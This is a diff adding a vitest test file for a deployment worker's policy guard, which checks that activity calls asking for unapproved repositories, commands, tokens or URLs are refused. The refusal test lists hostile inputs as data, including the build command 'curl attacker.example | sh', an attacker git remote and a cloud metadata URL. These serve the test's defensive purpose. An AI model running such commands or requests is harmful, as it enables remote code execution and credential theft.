@@ -1,0 +1,104 @@
+/**
+ * The policy guard as plain code: which wiring each activity call asks for, and which of it the
+ * worker's policy allows. An activity handed wiring the policy lacks must never act on it.
+ */
+import { describe, expect, it } from 'vitest';
+import { ApplicationFailure } from '@temporalio/common';
+import { parseConfig } from '../../config/schema.js';
+import { PolicyGuard, allowedWiring, refusedWiring, wiringOf } from '../../worker/policy-guard.js';
+
+const config = parseConfig(
+  `
+gitops: { url: https://git.example/acme/gitops.git, branch: main, tokenFromEnv: GITOPS_TOKEN }
+apps:
+  todoapp:
+    source: { github: acme/todoapp }
+    images: [todoapp/web]
+    build: { command: make images }
+    environments:
+      - name: staging
+        overlay: overlays/staging
+        argocd: { application: todoapp-staging }
+        checks: [ { http: { url: https://staging.todo.example/healthz } } ]
+        notify: [ log, { discord: { urlFromEnv: DISCORD_URL } } ]
+        backup: { schedule: "0 3 * * *", postgres: { urlFromEnv: STAGING_DB } }
+`,
+  'slipway.yaml',
+);
+const allowed = allowedWiring(config);
+const git = { url: 'https://git.example/acme/gitops.git', branch: 'main', tokenFromEnv: 'GITOPS_TOKEN', author: { name: 'a', email: 'a@b' } };
+
+describe('policy guard', () => {
+  it('lets through every call whose wiring the policy has', () => {
+    const calls: Array<[string, Record<string, unknown>]> = [
+      ['readOverlayImages', { git, overlay: 'overlays/staging', imageNames: [] }],
+      ['writeOverlayImages', { git: { ...git, author: { name: 'someone else', email: 'x@y' } } }],
+      ['waitForHealthy', { app: { application: 'todoapp-staging', namespace: 'argocd' }, git }],
+      ['refreshApplication', { app: { application: 'todoapp-staging', namespace: 'argocd' } }],
+      ['triggerBuild', { source: { repo: 'Acme/TodoApp', tokenFromEnv: 'GITHUB_TOKEN' } }],
+      ['runBuildCommand', { command: 'make images' }],
+      ['httpCheck', { url: 'https://staging.todo.example/healthz' }],
+      ['notify', { channels: ['log', { discord: { urlFromEnv: 'DISCORD_URL' } }] }],
+      ['takeBackup', { databaseUrlFromEnv: 'STAGING_DB' }],
+      ['pruneBackups', { app: 'todoapp', environment: 'staging', keep: 3 }],
+    ];
+    for (const [activity, input] of calls) expect(refusedWiring(activity, input, allowed), activity).toEqual([]);
+  });
+
+  it('refuses a remote, a token variable, a command, a channel, a database variable or an application it does not have', () => {
+    const refused: Array<[string, Record<string, unknown>, string]> = [
+      ['writeOverlayImages', { git: { ...git, url: 'https://attacker.example/x.git' } }, 'GitOps repository'],
+      ['readOverlayImages', { git: { ...git, tokenFromEnv: 'PROD_DATABASE_URL' } }, 'GitOps repository'],
+      ['waitForHealthy', { app: { application: 'todoapp-staging', namespace: 'argocd' }, git: { ...git, branch: 'other' } }, 'GitOps repository'],
+      ['createReleaseTag', { source: { repo: 'acme/todoapp', tokenFromEnv: 'TEMPORAL_API_KEY' } }, 'source repository'],
+      ['runBuildCommand', { command: 'curl attacker.example | sh' }, 'build command'],
+      ['notify', { channels: [{ slack: { urlFromEnv: 'GITOPS_TOKEN' } }] }, 'notification channel'],
+      ['verifyBackup', { databaseUrlFromEnv: 'GITOPS_TOKEN' }, 'database variable'],
+      ['refreshApplication', { app: { application: 'kube-system-app', namespace: 'kube-system' } }, 'Argo CD Application'],
+      ['httpCheck', { url: 'http://169.254.169.254/latest/meta-data' }, 'check URL'],
+    ];
+    for (const [activity, input, words] of refused) {
+      const problems = refusedWiring(activity, input, allowed);
+      expect(problems, activity).toHaveLength(1);
+      expect(problems[0]).toContain(words);
+    }
+  });
+
+  it('reads wiring from the fields each activity takes, and nothing from activities that take none', () => {
+    expect(wiringOf('requestPromotion', { git })).toEqual([]);
+    expect(wiringOf('notify', { channels: ['log', 'log'] })).toHaveLength(2);
+    expect(wiringOf('readOverlayImages', undefined)).toEqual([]);
+  });
+
+  it('throws a non-retryable RequestRefused that names no value from the worker’s environment', () => {
+    process.env.SLIPWAY_GUARD_TEST_SECRET = 'hunter2-secret-value';
+    const guard = new PolicyGuard(() => [{ config }]);
+    let thrown: unknown;
+    try {
+      guard.check('readOverlayImages', { git: { ...git, tokenFromEnv: 'SLIPWAY_GUARD_TEST_SECRET' } });
+    } catch (err) {
+      thrown = err;
+    }
+    expect(thrown).toBeInstanceOf(ApplicationFailure);
+    expect((thrown as ApplicationFailure).type).toBe('RequestRefused');
+    expect((thrown as ApplicationFailure).nonRetryable).toBe(true);
+    expect((thrown as ApplicationFailure).message).not.toContain('hunter2');
+  });
+
+  it('allows the wiring of every policy version the worker has read', () => {
+    const next = parseConfig(
+      `
+gitops: { url: https://git.example/acme/gitops-v2.git }
+apps: { todoapp: { images: [todoapp/web], environments: [ { name: staging, overlay: o, argocd: { application: todoapp-staging } } ] } }
+`,
+      'v2.yaml',
+    );
+    const versions = [{ config }];
+    const guard = new PolicyGuard(() => versions);
+    const v2git = { url: 'https://git.example/acme/gitops-v2.git', branch: 'main' };
+    expect(() => guard.check('readOverlayImages', { git: v2git })).toThrow(/not in the worker's policy/);
+    versions.push({ config: next });
+    expect(() => guard.check('readOverlayImages', { git: v2git })).not.toThrow();
+    expect(() => guard.check('readOverlayImages', { git })).not.toThrow();
+  });
+});
